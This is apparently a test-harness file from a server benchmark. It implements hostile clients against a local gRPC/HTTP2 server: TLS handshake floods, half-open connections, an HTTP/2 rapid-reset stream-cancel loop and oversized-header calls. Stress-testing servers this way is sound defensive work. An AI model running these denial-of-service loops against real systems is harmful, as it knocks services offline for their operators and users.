// Hostile clients of a server: see `attack-tools.cjs`. `files` has the certificates.
const { once } = require('node:events');
const { readFileSync } = require('node:fs');
const http2 = require('node:http2');
const tls = require('node:tls');
const grpc = require('@grpc/grpc-js');
const {
  connections,
  halfOpen,
  ignore,
  openSocket,
  repeat,
  repeatOnSession,
  serve,
} = require('./attack-tools.cjs');
const { call, connect } = require('./server-calls.cjs');

/** The beginning of a ClientHello of 512 bytes. */
const HELLO = Buffer.from('160301020001000001fc0303', 'hex');
const RESETS = 100;
/** What grpc-js accepts of the headers of a call: with names and 32 bytes for each header, below 16 KiB and above. */
const TEXT = 'x'.repeat(6000);
const LONG_TEXT = 'x'.repeat(200_000);

/** @returns whether the server closes the connection without a byte of HTTP/2. */
async function shakeHands(port, identity) {
  const socket = tls.connect({
    host: '127.0.0.1',
    port,
    servername: 'server.bench',
    ALPNProtocols: ['h2'],
    ...identity,
  });
  socket.on('error', ignore);
  const yes = () => true;
  const closed = once(socket, 'close').then(yes, yes);
  const isRefused = await Promise.race([closed, once(socket, 'data').then(() => false, yes)]);
  socket.destroy();
  return isRefused;
}

async function resetCalls(session) {
  for (let i = 0; i < RESETS && !session.destroyed; i++) {
    const headers = { ':method': 'POST', ':path': '/demo.Echo/Say', te: 'trailers' };
    const stream = session.request({ ...headers, 'content-type': 'application/grpc' });
    stream.on('error', ignore);
    stream.close(http2.constants.NGHTTP2_CANCEL);
  }
  await new Promise(setImmediate);
}

async function callWith(client, text) {
  const metadata = new grpc.Metadata();
  metadata.set('x-text', text);
  for (let i = 0; i < 50; i++) metadata.set(`x-${i}`, 'v');
  return (await call(client, metadata)) !== undefined;
}

const attacks = {
  halfOpen: (options) => halfOpen(options, HELLO),
  handshakes: ({ port, files, untilMs }) => {
    const identity = {
      ca: readFileSync(files.root),
      cert: readFileSync(files.hostile.certificate),
      key: readFileSync(files.hostile.key),
    };
    return repeat(untilMs, () => shakeHands(port, identity));
  },
  connections,
  halfHandshakes: ({ port, untilMs }) =>
    repeat(untilMs, async () => {
      const socket = await openSocket(port);
      await new Promise((resolve) => socket.write(HELLO, resolve));
      socket.destroy();
    }),
  resets: (options) => repeatOnSession(options, resetCalls),
  async headers({ port, untilMs }) {
    const client = await connect(port);
    return repeat(untilMs, () => callWith(client, TEXT));
  },
  async longHeaders({ port, untilMs }) {
    const client = await connect(port);
    return repeat(untilMs, () => callWith(client, LONG_TEXT));
  },
};

serve(attacks);
